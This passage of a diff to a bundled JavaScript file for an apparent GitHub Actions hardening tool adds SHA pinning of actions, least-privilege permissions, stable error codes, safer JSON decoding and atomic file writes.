+        return { content, applied, skipped: ['the file is not a YAML mapping'] };
+    const root = doc.contents;
+    const edits = [];
+    const jobs = kind === 'workflow' ? pairOf(root, 'jobs')?.value : undefined;
+    const jobEntries = isMap(jobs) ? jobs.items : [];
+    const stepMaps = [];
+    const usesScalars = [];
+    if (kind === 'workflow') {
+        for (const pair of jobEntries) {
+            if (!isMap(pair.value))
+                continue;
+            const call = pairOf(pair.value, 'uses')?.value;
+            if (isScalar(call))
+                usesScalars.push(call);
+            const steps = pairOf(pair.value, 'steps')?.value;
+            for (const s of isSeq(steps) ? steps.items : [])
+                if (isMap(s))
+                    stepMaps.push(s);
+        }
+    }
+    else {
+        const steps = pairOf(isMap(pairOf(root, 'runs')?.value) ? pairOf(root, 'runs')?.value : root, 'steps')?.value;
+        for (const s of isSeq(steps) ? steps.items : [])
+            if (isMap(s))
+                stepMaps.push(s);
+    }
+    for (const s of stepMaps) {
+        const u = pairOf(s, 'uses')?.value;
+        if (isScalar(u))
+            usesScalars.push(u);
+    }
+    // SHA pins.
+    for (const scalar of usesScalars) {
+        const raw = String(scalar.value).trim();
+        const r = remoteUses(raw);
+        if (!r || fix_file_SHA.test(r.ref) || raw.includes('${{') || !r.ref)
+            continue;
+        if (options.trustedOwners.some((o) => o.toLowerCase() === r.owner) && fix_file_RELEASE_TAG.test(r.ref))
+            continue;
+        if (scalar.type !== 'PLAIN' && scalar.type !== 'QUOTE_SINGLE' && scalar.type !== 'QUOTE_DOUBLE') {
+            skipped.push(`${raw}: a block scalar is left as written`);
+            continue;
+        }
+        const pin = await options.resolvePin(r.owner, r.repo, r.ref);
+        if (!pin) {
+            skipped.push(`${raw}: no commit known for '${r.ref}' (give --pins FILE or --online)`);
+            continue;
+        }
+        const [start = 0, end = 0] = scalar.range ?? [];
+        const quote = scalar.type === 'QUOTE_DOUBLE' ? '"' : scalar.type === 'QUOTE_SINGLE' ? "'" : '';
+        const pinned = `${quote}${raw.slice(0, raw.lastIndexOf('@'))}@${pin.sha}${quote}`;
+        const eol = lineEnd(content, end);
+        const rest = content.slice(end, eol);
+        const version = /#\s*v\d+(\.\d+){0,2}\b/.exec(rest);
+        if (version) {
+            edits.push({ start, end, text: pinned });
+            edits.push({ start: end + version.index, end: end + version.index + version[0].length, text: `# ${pin.version}` });
+        }
+        else
+            edits.push({ start, end, text: `${pinned} # ${pin.version}` });
+        applied.push(`pinned ${raw} to ${pin.sha} (${pin.version})`);
+    }
+    // persist-credentials: false on every checkout that does not say.
+    for (const step of stepMaps) {
+        const u = pairOf(step, 'uses')?.value;
+        if (!isScalar(u) || actionName(String(u.value).trim()) !== 'actions/checkout')
+            continue;
+        const w = pairOf(step, 'with');
+        if (w && isMap(w.value) && pairOf(w.value, 'persist-credentials'))
+            continue;
+        if (w && isMap(w.value) && !w.value.flow && w.value.items.length > 0) {
+            edits.push({
+                start: mapEnd(content, w.value),
+                end: mapEnd(content, w.value),
+                text: `\n${' '.repeat(firstKeyColumn(content, w.value))}persist-credentials: false`,
+            });
+        }
+        else if (!w && !step.flow) {
+            const indent = ' '.repeat(firstKeyColumn(content, step));
+            edits.push({
+                start: mapEnd(content, step),
+                end: mapEnd(content, step),
+                text: `\n${indent}with:\n${indent}  persist-credentials: false`,
+            });
+        }
+        else {
+            skipped.push('a checkout with a flow-style or empty `with:` is left as written');
+            continue;
+        }
+        applied.push('set persist-credentials: false on actions/checkout');
+    }
+    // permissions: {} at the top, with each job's grants.
+    if (kind === 'workflow' && !pairOf(root, 'permissions') && isMap(jobs)) {
+        const plans = jobEntries.map((pair) => ({
+            pair,
+            plan: isMap(pair.value) && !pairOf(pair.value, 'permissions') ? inferPermissions(pair.value) : undefined,
+        }));
+        const unknown = plans.find((p) => p.plan && 'unknown' in p.plan);
+        if (unknown?.plan && 'unknown' in unknown.plan) {
+            skipped.push(`permissions: job '${String(unknown.pair.key.value)}' is left to you: ${unknown.plan.unknown}`);
+        }
+        else {
+            const jobsKey = (pairOf(root, 'jobs')?.key).range?.[0] ?? 0;
+            edits.push({ start: lineStart(content, jobsKey), end: lineStart(content, jobsKey), text: 'permissions: {}\n' });
+            for (const { pair, plan } of plans) {
+                if (!plan || !('grants' in plan) || !isMap(pair.value) || pair.value.flow)
+                    continue;
+                const indent = ' '.repeat(firstKeyColumn(content, pair.value));
+                const grants = Object.entries(plan.grants).sort(([a], [b]) => a.localeCompare(b));
+                const block = grants.length === 0
+                    ? `\n${indent}permissions: {}`
+                    : `\n${indent}permissions:${grants.map(([s, l]) => `\n${indent}  ${s}: ${l}`).join('')}`;
+                const at = lineEnd(content, pair.key.range?.[0] ?? 0);
+                edits.push({ start: at, end: at, text: block });
+            }
+            applied.push('set permissions: {} at the top and per-job grants from the steps');
+        }
+    }
+    edits.sort((a, b) => b.start - a.start || b.end - a.end);
+    let out = content;
+    for (const e of edits)
+        out = out.slice(0, e.start) + e.text + out.slice(e.end);
+    return { content: out, applied, skipped };
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/fix/pins.ts
+
+const pinsFile = src/* decode.record */.D4.record(src/* decode.record */.D4.record(src/* decode.string */.D4.string));
+/** The most specific tag (`v4.2.2` over `v4`) among those naming one commit. */
+function mostSpecific(tags, fallback) {
+    return [...tags].sort((x, y) => y.split('.').length - x.split('.').length || y.localeCompare(x))[0] ?? fallback;
+}
+/**
+ * Pins from a file: `{"actions/checkout": {"v4": "<sha>", "v4.2.2": "<sha>"}}`, every tag of
+ * interest with its commit (what `git ls-remote --tags` prints, for working offline).
+ */
+function pinsFromFile(json, source) {
+    const table = decodeDocument(pinsFile, json, source);
+    const lower = new Map(Object.entries(table).map(([k, v]) => [k.toLowerCase(), v]));
+    return (owner, repo, ref) => {
+        const tags = lower.get(`${owner}/${repo}`.toLowerCase());
+        const sha = tags?.[ref];
+        if (!tags || !sha || !/^[0-9a-f]{40}$/.test(sha))
+            return Promise.resolve(undefined);
+        return Promise.resolve({
+            sha,
+            version: mostSpecific(Object.entries(tags)
+                .filter(([, s]) => s === sha)
+                .map(([t]) => t), ref),
+        });
+    };
+}
+/** Pins resolved through the GitHub API: the ref's commit (annotated tags followed), then its release tags. */
+function pinsFromApi(api) {
+    return async (owner, repo, ref) => {
+        const sha = (await api.ref(owner, repo, `tags/${ref}`)) ?? (await api.ref(owner, repo, `heads/${ref}`));
+        if (!sha)
+            return undefined;
+        const tags = (await api.tags(owner, repo)).filter((t) => t.sha === sha).map((t) => t.name);
+        return { sha, version: mostSpecific(tags, ref) };
+    };
 }
 
 ;// CONCATENATED MODULE: ./packages/workflows/src/estimate/job-graph.ts
@@ -37588,6 +40586,12 @@ function decodeTimings(value, source, defaultOverhead = 60, workflowName) {
         })), defaultOverhead);
     }
     const doc = decodeDocument(givenFormat, value, source);
+    if (doc.budgetMinutes !== undefined && !(Number.isFinite(doc.budgetMinutes) && doc.budgetMinutes > 0)) {
+        throw new UserError(`${source}: budgetMinutes must be a positive number of minutes; got ${doc.budgetMinutes}`, {
+            code: errorCodes.invalidInput,
+            hint: 'give the time budget in minutes, e.g. "budgetMinutes": 10, or leave it out for the default',
+        });
+    }
     const jobs = new Map();
     for (const [name, t] of Object.entries(doc.jobs)) {
         if (t.seconds === undefined && t.serialSeconds === undefined) {
@@ -37788,6 +40792,7 @@ function buildAuditRecord(run, needsJson, permissionsJson, now) {
     const digests = {};
     let scanDecision;
     let verification;
+    let reproducibility;
     for (const [id, job] of Object.entries(needs)) {
         jobs[id] = { result: job.result, permissions: permissions[id] ?? {}, outputs: job.outputs };
         for (const [name, value] of Object.entries(job.outputs)) {
@@ -37797,6 +40802,8 @@ function buildAuditRecord(run, needsJson, permissionsJson, now) {
                 scanDecision = value;
             if ((name === 'verified' || name === 'verification') && value)
                 verification = value;
+            if (name === 'reproducible' && value)
+                reproducibility = { reproducible: value, hermetic: job.outputs['hermetic'] };
         }
     }
     return {
@@ -37807,6 +40814,7 @@ function buildAuditRecord(run, needsJson, permissionsJson, now) {
         digests,
         scanDecision,
         verification,
+        reproducibility,
     };
 }
 /** The record as a job-summary section. */
@@ -37821,6 +40829,12 @@ function formatAuditRecordSummary(record) {
         ['Run', `[${r.runId} attempt ${r.runAttempt}](${r.url})`],
         ['Scan decision', record.scanDecision ?? 'none'],
         ['Verification', record.verification ?? 'none'],
+        [
+            'Reproducible build',
+            record.reproducibility
+                ? `${record.reproducibility.reproducible} (hermetic: ${record.reproducibility.hermetic ?? 'unknown'})`
+                : 'not checked',
+        ],
     ]);
     const digests = Object.entries(record.digests);
     if (digests.length > 0)
@@ -37835,7 +40849,53 @@ function formatAuditRecordSummary(record) {
     return md.toString();
 }
 
+;// CONCATENATED MODULE: ./packages/workflows/src/run-audit.ts
+
+
+
+
+
+/** The one audit orchestration the CLI and the action share: collect, audit offline, add the online findings. */
+async function runAudit(request) {
+    const inputs = await collectAuditInputs(request.paths, request.base);
+    const extra = request.api ? await onlineFindings(inputs, request.api) : [];
+    const report = await auditAll(inputs, {
+        trustedOwners: request.trustedOwners,
+        ...(request.forbiddenUses ? { forbiddenUses: request.forbiddenUses } : {}),
+        ...(request.minConfidence ? { minConfidence: request.minConfidence } : {}),
+        ...(request.advisories ? { advisories: request.advisories } : {}),
+    }, extra);
+    return { inputs, report };
+}
+/** Plans the mechanical fixes of every audited file (nothing is written here). */
+async function planFixes(inputs, resolvePin, trustedOwners) {
+    const out = [];
+    for (const input of inputs) {
+        const result = await fixFile(input.content, input.kind, { resolvePin, trustedOwners });
+        out.push({
+            file: input.file,
+            before: input.content,
+            after: result.content,
+            applied: result.applied,
+            skipped: result.skipped,
+            diff: unifiedDiff(input.content, result.content, input.file),
+        });
+    }
+    return out;
+}
+
 ;// CONCATENATED MODULE: ./packages/workflows/src/index.ts
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -37859,8 +40919,18 @@ function formatAuditRecordSummary(record) {
 const run_VERSION = '1';
 /** Audits the workflows: annotations on each finding, SARIF and JSON files, a summary; fails on findings. */
 async function audit(inputs, ports, workspace) {
-    const files = await collectAuditInputs(inputs.paths, workspace);
-    const report = await auditAll(files, { trustedOwners: inputs.trustedOwners });
+    const { inputs: files, report } = await runAudit({
+        paths: inputs.paths,
+        base: workspace,
+        trustedOwners: inputs.trustedOwners,
+        minConfidence: inputs.minConfidence,
+        ...(inputs.online ? { api: githubApi({ baseUrl: inputs.apiUrl, token: inputs.githubToken }) } : {}),
+    });
+    const outputs = [
+        ...(inputs.sarifFile ? [{ path: (0,external_node_path_.resolve)(workspace, inputs.sarifFile), name: "input 'sarif-file'" }] : []),
+        ...(inputs.jsonFile ? [{ path: (0,external_node_path_.resolve)(workspace, inputs.jsonFile), name: "input 'json-file'" }] : []),
+    ];
+    await (0,src/* assertDistinctOutputs */.zW)(files.map((f) => ({ path: (0,external_node_path_.resolve)(workspace, f.file), name: 'the audited file' })), outputs);
     for (const f of report.files.flatMap((x) => x.findings)) {
         const at = { title: `${f.rule} (${f.severity})`, file: f.file, startLine: f.line };
         const text = `${f.message}. Fix: ${f.fix}`;
@@ -40928,8 +43998,8 @@ function actions_ports_warnStep(message) {
     core.warning(message);
 }
 
-// EXTERNAL MODULE: ./packages/core/src/errors.ts
-var errors = __nccwpck_require__(7638);
+// EXTERNAL MODULE: ./packages/core/src/errors.ts + 1 modules
+var errors = __nccwpck_require__(6829);
 ;// CONCATENATED MODULE: ./packages/core/src/run-action.ts
 
 
@@ -40942,7 +44012,7 @@ async function runAction(main) {
         await main();
     }
     catch (error) {
-        failStep((0,errors/* isUserError */.iU)(error) ? (0,errors/* describeError */.Uc)(error) : `Unexpected error (please report it): ${(0,errors/* describeError */.Uc)(error)}`);
+        failStep((0,errors/* describeFailure */.Ic)(error));
     }
 }
 /** The error path of a post step: it only warns, so cleanup never fails a green job. */
@@ -40963,30 +44033,99 @@ async function runPost(post) {
 
 /***/ }),
 
-/***/ 7638:
+/***/ 6829:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   Uc: () => (/* binding */ describeError),
-/* harmony export */   gJ: () => (/* binding */ errorMessage),
-/* harmony export */   iU: () => (/* binding */ isUserError),
-/* harmony export */   pn: () => (/* binding */ PolicyError),
-/* harmony export */   yo: () => (/* binding */ UserError)
-/* harmony export */ });
-/* unused harmony export formatUserError */
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  pn: () => (/* binding */ PolicyError),
+  yo: () => (/* binding */ UserError),
+  Ic: () => (/* binding */ describeFailure),
+  fv: () => (/* reexport */ error_codes_errorCodes),
+  gJ: () => (/* binding */ errorMessage)
+});
+
+// UNUSED EXPORTS: BUG_PREFIX, describeError, errorCode, formatUserError, isUserError
+
+;// CONCATENATED MODULE: ./packages/core/src/error-codes.ts
+// The stable error codes that machine readers branch on: the CLI's `--json` error object, the
+// actions' `error-code` outputs and docs/error-codes.md. A code, once published, keeps its
+// meaning; add new ones, never repurpose one. Each engine's codes sit in their own section.
+const error_codes_errorCodes = {
+    // Any capability: input, output and the network.
+    /** Bad flags, arguments or action inputs. */
+    usage: 'USAGE',
+    /** An input (file, report, policy) is readable but its content is wrong. */
+    invalidInput: 'INPUT_INVALID',
+    /** An input file does not exist or cannot be read. */
+    inputUnreadable: 'INPUT_UNREADABLE',
+    /** An input file is larger than its format allows. */
+    inputTooLarge: 'INPUT_TOO_LARGE',
+    /** A text input holds binary data. */
+    inputBinary: 'INPUT_BINARY',
+    /** An output path resolves to an input, or two outputs to one file. */
+    outputIsInput: 'OUTPUT_IS_INPUT',
+    /** An output could not be written (disk full, read-only, a folder in the way, ...). */
+    outputUnwritable: 'OUTPUT_UNWRITABLE',
+    /** A folder the tool would replace was not created by it. */
+    outputNotOwned: 'OUTPUT_NOT_OWNED',
+    /** A network call passed its deadline. */
+    networkTimeout: 'NETWORK_TIMEOUT',
+    /** A network peer could not be reached (refused, unresolvable, reset). */
+    networkUnreachable: 'NETWORK_UNREACHABLE',
+    /** A network peer answered with an error status after the retries. */
+    networkStatus: 'NETWORK_STATUS',
+    /** A gate's policy rejected readable input. */
+    policyRejected: 'POLICY_REJECTED',
+    /** A bug: not a UserError. */
+    internal: 'INTERNAL',
+    // verify-deploy
+    /** A signature, certificate, log entry or timestamp did not verify. */
+    signatureInvalid: 'SIGNATURE_INVALID',
+    /** The signer's identity or issuer is not one the policy trusts, or is malformed. */
+    identityMismatch: 'IDENTITY_MISMATCH',
+    /** The signing key is not one the policy lists. */
+    keyNotTrusted: 'KEY_NOT_TRUSTED',
+    /** The provenance does not match the artifact, the builder or the source. */
+    provenanceMismatch: 'PROVENANCE_MISMATCH',
+    /** No verified timestamp, or a signature older than the policy's max-age. */
+    signatureStale: 'SIGNATURE_STALE',
+    /** The policy requires a reproducibility verdict that is missing or negative. */
+    reproducibilityMissing: 'REPRODUCIBILITY_MISSING',
+    // container-scan-gate
+    /** A scanner report says the scan itself failed (database invalid, errors). */
+    scanFailed: 'SCAN_FAILED',
+    /** A scanner report scanned nothing. */
+    scanEmpty: 'SCAN_EMPTY',
+    // cache-setup, slipway cache run
+    /** The install command that cache-setup or `cache run` ran exited non-zero. */
+    installFailed: 'INSTALL_FAILED',
+    // reproducible-build
+    /** The outputs differ between builds. */
+    notReproducible: 'NOT_REPRODUCIBLE',
+    /** A build needed the network, or could not be isolated from it. */
+    notHermetic: 'NOT_HERMETIC',
+};
+
+;// CONCATENATED MODULE: ./packages/core/src/errors.ts
+
+
 /** An error the user can fix: bad input, an unreadable file, a policy violation. Fails with its message and hint, no stack. */
 class UserError extends Error {
     hint;
+    code;
     constructor(message, options = {}) {
         super(message, options.cause === undefined ? undefined : { cause: options.cause });
         this.name = 'UserError';
         this.hint = options.hint;
+        this.code = options.code ?? error_codes_errorCodes.invalidInput;
     }
 }
 /** A gate said no: the inputs were readable and the policy rejected them (CLI exit code 1). */
 class PolicyError extends UserError {
     constructor(message, options = {}) {
-        super(message, options);
+        super(message, { ...options, code: options.code ?? error_codes_errorCodes.policyRejected });
         this.name = 'PolicyError';
     }
 }
@@ -41011,6 +44150,8 @@ function errorMessage(error) {
 function formatUserError(error) {
     return error.hint ? `${error.message}\nHint: ${error.hint}` : error.message;
 }
+/** The line that precedes a bug's stack, so a person knows it is ours to fix. */
+const BUG_PREFIX = 'Unexpected error (please report it): ';
 /** What a person sees for any thrown value: user errors without a stack, bugs with one. */
 function describeError(error) {
     if (isUserError(error))
@@ -41018,6 +44159,14 @@ function describeError(error) {
     if (error instanceof Error)
         return error.stack ?? `${error.name}: ${error.message}`;
     return `A non-Error value was thrown: ${errorMessage(error)}`;
+}
+/** As describeError, with the "please report" line before anything that is not a UserError. */
+function describeFailure(error) {
+    return isUserError(error) ? formatUserError(error) : `${BUG_PREFIX}${describeError(error)}`;
+}
+/** The stable code of any thrown value: a UserError's own, `internal` for a bug. */
+function errorCode(error) {
+    return isUserError(error) ? error.code : errorCodes.internal;
 }
 
 
@@ -41073,28 +44222,32 @@ function processExec(write) {
 
 /***/ }),
 
-/***/ 368:
+/***/ 6181:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
   oz: () => (/* reexport */ Markdown),
-  pn: () => (/* reexport */ src_errors/* PolicyError */.pn),
-  yo: () => (/* reexport */ src_errors/* UserError */.yo),
+  pn: () => (/* reexport */ errors/* PolicyError */.pn),
+  yo: () => (/* reexport */ errors/* UserError */.yo),
+  zW: () => (/* reexport */ assertDistinctOutputs),
   D4: () => (/* reexport */ decode_namespaceObject),
   w8: () => (/* reexport */ decode_decodeDocument),
   QN: () => (/* reexport */ digestBytes),
+  fv: () => (/* reexport */ errors/* errorCodes */.fv),
+  Vu: () => (/* reexport */ fetchWithPolicy),
   hF: () => (/* reexport */ input_readers_namespaceObject),
   qF: () => (/* reexport */ parseJson),
   cd: () => (/* reexport */ parseYamlText),
+  x8: () => (/* reexport */ readBody),
   L7: () => (/* reexport */ readGitHubContext),
   Ko: () => (/* reexport */ readInputs),
   Gu: () => (/* reexport */ readTextFile),
   Tl: () => (/* reexport */ writeTextFile)
 });
 
-// UNUSED EXPORTS: DecodeError, InputError, RECORD_ARTIFACT_PREFIX, RECORD_SCHEMA, consolePorts, describeError, digestFile, errorMessage, escapeHtml, expandGlobs, fixedClock, isForkPullRequest, isUserError, median, outcomeRecord, outcomeRecordFile, parseDuration, percentile, publishRecords, readJsonFile, readYamlFile, readerFrom, recordArtifactName, recordDocument, recordRunFrom, spawnCapture, splitList, systemClock
+// UNUSED EXPORTS: BUG_PREFIX, DEFAULT_DEADLINES, DEFAULT_RETRY, DEFAULT_SKIP_FOLDERS, DecodeError, InputError, LARGE_FILE_LIMIT, NETWORK_TIMEOUT_VARIABLE, NO_RETRY, OWNED_MARKER, RECORD_ARTIFACT_PREFIX, RECORD_SCHEMA, SMALL_FILE_LIMIT, assertNotFuture, backoffDelay, canonicalPath, consolePorts, describeError, describeFailure, describeFsError, describeUrl, digestFile, errorCode, errorMessage, escapeHtml, expandGlobs, fixedClock, globMatcher, isForkPullRequest, isRetryableStatus, isUserError, median, networkDeadlineMs, networkError, networkTimeoutCap, outcomeRecord, outcomeRecordFile, parseCalendarDate, parseDateTime, parseDuration, parseRetryAfter, parseUserUrl, percentile, prepareOwnedDir, publishRecords, readFileBytes, readJsonFile, readYamlFile, readerFrom, recordArtifactName, recordDocument, recordRunFrom, removeOwnedDir, sleep, spawnCapture, splitList, systemClock, withRetry, writeOutputFiles
 
 // NAMESPACE OBJECT: ./packages/core/src/decode.ts
 var decode_namespaceObject = {};
@@ -41137,20 +44290,22 @@ __nccwpck_require__.d(input_readers_namespaceObject, {
   yamlFile: () => (yamlFile)
 });
 
-// EXTERNAL MODULE: ./packages/core/src/errors.ts
-var src_errors = __nccwpck_require__(7638);
+// EXTERNAL MODULE: ./packages/core/src/errors.ts + 1 modules
+var errors = __nccwpck_require__(6829);
 ;// CONCATENATED MODULE: ./packages/core/src/decode.ts
 
 /** A decoding failure: `path` is the field at fault, `expected` what would have been accepted. */
-class DecodeError extends src_errors/* UserError */.yo {
+class DecodeError extends errors/* UserError */.yo {
     path;
     constructor(path, expected, actual) {
-        super(`${path || '(root)'}: expected ${expected}, got ${describe(actual)}`);
+        super(`${path || '(root)'}: ${typeof expected === 'string' ? `expected ${expected}, got ${describe(actual)}` : expected.message}`);
         this.name = 'DecodeError';
         this.path = path;
     }
 }
 function describe(value) {
+    if (value === undefined)
+        return 'undefined (the field is missing)';
     if (value === null)
         return 'null';
     if (Array.isArray(value))
@@ -41159,9 +44314,11 @@ function describe(value) {
         return JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}…` : value);
     if (typeof value === 'object')
         return 'an object';
-    return `${typeof value} ${JSON.stringify(value) ?? 'undefined'}`;
+    if (typeof value === 'number' || typeof value === 'boolean' || typeof value === 'bigint')
+        return `${typeof value} ${value}`;
+    return `a ${typeof value}`;
 }
-const join = (path, key) => (typeof key === 'number' ? `${path}[${key}]` : path ? `${path}.${key}` : key);
+const decode_join = (path, key) => (typeof key === 'number' ? `${path}[${key}]` : path ? `${path}.${key}` : key);
 const string = (v, p) => {
     if (typeof v !== 'string')
         throw new DecodeError(p, 'a string', v);
@@ -41190,7 +44347,7 @@ function array(item) {
     return (v, p) => {
         if (!Array.isArray(v))
             throw new DecodeError(p, 'an array', v);
-        return v.map((x, i) => item(x, join(p, i)));
+        return v.map((x, i) => item(x, decode_join(p, i)));
     };
 }
 /** A JSON object used as a map from string keys to values of one type. */
@@ -41199,8 +44356,11 @@ function record(value) {
         if (typeof v !== 'object' || v === null || Array.isArray(v))
             throw new DecodeError(p, 'an object', v);
         const out = {};
-        for (const [k, x] of Object.entries(v))
-            out[k] = value(x, join(p, k));
+        // defineProperty, not assignment: a `__proto__` key stays an ordinary entry instead of
+        // setting the result's prototype.
+        for (const [k, x] of Object.entries(v)) {
+            Object.defineProperty(out, k, { value: value(x, decode_join(p, k)), enumerable: true, writable: true, configurable: true });
+        }
         return out;
     };
 }
@@ -41229,7 +44389,7 @@ function oneOf(...alternatives) {
                 errors.push(error.message);
             }
         }
-        throw new src_errors/* UserError */.yo(`${p || '(root)'}: no accepted form matched (${errors.join('; ')})`);
+        throw new DecodeError(p, { message: `no accepted form matched (${errors.join('; ')})` });
     };
 }
 function map(inner, f) {
@@ -41246,14 +44406,15 @@ function object(shape, options = {}) {
         const input = v;
         if (options.strict) {
             for (const key of Object.keys(input)) {
-                if (!(key in shape)) {
-                    throw new src_errors/* UserError */.yo(`${join(p, key)}: unknown field; accepted fields are ${Object.keys(shape).join(', ')}`);
+                // Own keys only: `constructor` or `toString` is not a field because every object inherits it.
+                if (!Object.hasOwn(shape, key)) {
+                    throw new DecodeError(decode_join(p, key), { message: `unknown field; accepted fields are ${Object.keys(shape).join(', ')}` });
                 }
             }
         }
         const out = {};
         for (const [key, decode] of Object.entries(shape)) {
-            const value = decode(input[key], join(p, key));
+            const value = decode(Object.hasOwn(input, key) ? input[key] : undefined, decode_join(p, key));
             if (value !== undefined)
                 out[key] = value;
         }
@@ -41266,8 +44427,8 @@ function decode_decodeDocument(decoder, value, source) {
         return decoder(value, '');
     }
     catch (error) {
-        if (error instanceof src_errors/* UserError */.yo) {
-            throw new src_errors/* UserError */.yo(`${source}: ${error.message}`, { hint: error.hint, cause: error });
+        if (error instanceof errors/* UserError */.yo) {
+            throw new errors/* UserError */.yo(`${source}: ${error.message}`, { hint: error.hint, cause: error, code: error.code });
         }
         throw error;
     }
@@ -41277,6 +44438,8 @@ function decode_decodeDocument(decoder, value, source) {
 const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(6760);
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
 // EXTERNAL MODULE: external "node:fs/promises"
 var promises_ = __nccwpck_require__(1455);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
@@ -41287,26 +44450,272 @@ var dist = __nccwpck_require__(8815);
 
 
 
+
 /**
- * Writes a text file, creating its folder, through a temporary file and a rename: a reader
- * (or a step that fails half-way) never sees half a report, bundle or state file.
+ * The largest text inputs whose format has no reason to be big (policies, workflows, keys,
+ * configuration). Reports and timings, which may be large, are read with their own limit.
  */
-async function writeTextFile(path, text) {
-    await (0,promises_.mkdir)((0,external_node_path_.dirname)(path), { recursive: true });
-    const tmp = `${path}.${process.pid}.tmp`;
-    await (0,promises_.writeFile)(tmp, text);
-    await (0,promises_.rename)(tmp, path);
+const SMALL_FILE_LIMIT = (/* unused pure expression or super */ null && (8 * 1024 * 1024));
+/** The largest file read whole into one string; above it a format must stream. */
+const LARGE_FILE_LIMIT = 400 * 1024 * 1024;
+/** What a failed file-system call means to a person, from its errno code. */
+function files_describeFsError(error) {
+    const code = error?.code;
+    switch (code) {
+        case 'ENOENT':
+            return 'it does not exist';
+        case 'EISDIR':
+            return 'it is a directory';
+        case 'ENOTDIR':
+            return 'a part of the path is a file, not a directory';
+        case 'EACCES':
+        case 'EPERM':
+            return 'permission denied';
+        case 'EROFS':
+            return 'the file system is read-only';
+        case 'ENOSPC':
+            return 'the disk is full';
+        case 'EDQUOT':
+            return 'the disk quota is exhausted';
+        case 'EEXIST':
+            return 'it already exists';
+        case 'ELOOP':
+            return 'it is a symbolic link loop';
+        case 'ENAMETOOLONG':
+            return 'the path is too long';
+        case 'EMFILE':
+        case 'ENFILE':
+            return 'too many open files';
+        case 'EIO':
+            return 'an input/output error';
+        default:
+            return code ?? (error instanceof Error ? error.message : String(error));
+    }
 }
-/** Reads a text file; a missing or unreadable file is a UserError naming it. */
-async function readTextFile(path, what = 'file') {
+function writeError(what, path, error) {
+    const code = error?.code;
+    return new errors/* UserError */.yo(`Cannot write ${what} ${path}: ${files_describeFsError(error)}${code ? ` (${code})` : ''}`, {
+        cause: error,
+        code: errors/* errorCodes */.fv.outputUnwritable,
+        hint: code === 'ENOSPC' || code === 'EDQUOT'
+            ? 'free some space or write the output elsewhere'
+            : 'choose a path in a writable folder that is not a directory',
+    });
+}
+async function resolveTarget(path, what, rule) {
+    let info;
     try {
-        return await (0,promises_.readFile)(path, 'utf8');
+        info = await (0,promises_.lstat)(path);
     }
     catch (error) {
-        const code = error.code;
-        const reason = code === 'ENOENT' ? 'it does not exist' : code === 'EISDIR' ? 'it is a directory' : String(code ?? error);
-        throw new src_errors/* UserError */.yo(`Cannot read ${what} ${path}: ${reason}`, { cause: error });
+        if (error.code === 'ENOENT')
+            return { target: path, mode: undefined };
+        throw writeError(what, path, error);
     }
+    if (info.isSymbolicLink()) {
+        if (rule === 'refuse') {
+            throw new errors/* UserError */.yo(`Cannot write ${what} ${path}: it is a symbolic link`, {
+                code: errors/* errorCodes */.fv.outputUnwritable,
+                hint: 'write to the real file, or remove the link first',
+            });
+        }
+        let target;
+        try {
+            target = await (0,promises_.realpath)(path);
+        }
+        catch (error) {
+            // A dangling link: write where it points.
+            if (error.code !== 'ENOENT')
+                throw writeError(what, path, error);
+            target = (0,external_node_path_.resolve)((0,external_node_path_.dirname)(path), await (0,promises_.readlink)(path));
+            return { target, mode: undefined };
+        }
+        return resolveTarget(target, what, 'refuse');
+    }
+    if (info.isDirectory())
+        throw writeError(what, path, Object.assign(new Error('is a directory'), { code: 'EISDIR' }));
+    return { target: path, mode: info.mode & 0o7777 };
+}
+/** Writes the text to a fresh temporary file beside the target; the caller renames it into place. */
+async function prepareWrite(path, text, options) {
+    const what = options.what ?? 'file';
+    const { target, mode } = await resolveTarget(path, what, options.symlinks ?? 'refuse');
+    try {
+        await (0,promises_.mkdir)((0,external_node_path_.dirname)(target), { recursive: true });
+    }
+    catch (error) {
+        throw writeError(what, path, error);
+    }
+    // A name no other writer uses, created exclusively: two concurrent writers each rename a
+    // whole file of their own, and the last rename wins.
+    const tmp = (0,external_node_path_.join)((0,external_node_path_.dirname)(target), `.${(0,external_node_path_.basename)(target)}.${process.pid}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`);
+    let handle;
+    try {
+        handle = await (0,promises_.open)(tmp, 'wx', mode ?? options.mode ?? 0o644);
+    }
+    catch (error) {
+        throw writeError(what, path, error);
+    }
+    try {
+        await handle.writeFile(text);
+        if (mode !== undefined)
+            await handle.chmod(mode);
+        await handle.sync();
+    }
+    catch (error) {
+        await handle.close().catch(() => undefined);
+        await (0,promises_.rm)(tmp, { force: true }).catch(() => undefined);
+        throw writeError(what, path, error);
+    }
+    await handle.close();
+    return { target, tmp };
+}
+function processAlive(pid) {
+    try {
+        process.kill(pid, 0);
+        return true;
+    }
+    catch (error) {
+        return error.code === 'EPERM';
+    }
+}
+/**
+ * Removes temporary files of this writer's own naming (`.<name>.<pid>.<random>.tmp`) that a
+ * writer killed with SIGKILL left beside `target`: only those whose process is gone.
+ */
+async function sweepAbandoned(target) {
+    const prefix = `.${(0,external_node_path_.basename)(target)}.`;
+    let names;
+    try {
+        names = await (0,promises_.readdir)((0,external_node_path_.dirname)(target));
+    }
+    catch {
+        return;
+    }
+    for (const name of names) {
+        if (!name.startsWith(prefix) || !name.endsWith('.tmp'))
+            continue;
+        const match = /^(\d+)\.[0-9a-f]{12}\.tmp$/.exec(name.slice(prefix.length));
+        if (match && Number(match[1]) !== process.pid && !processAlive(Number(match[1]))) {
+            await (0,promises_.rm)((0,external_node_path_.join)((0,external_node_path_.dirname)(target), name), { force: true }).catch(() => undefined);
+        }
+    }
+}
+async function commit(prepared, what, shown) {
+    try {
+        await (0,promises_.rename)(prepared.tmp, prepared.target);
+    }
+    catch (error) {
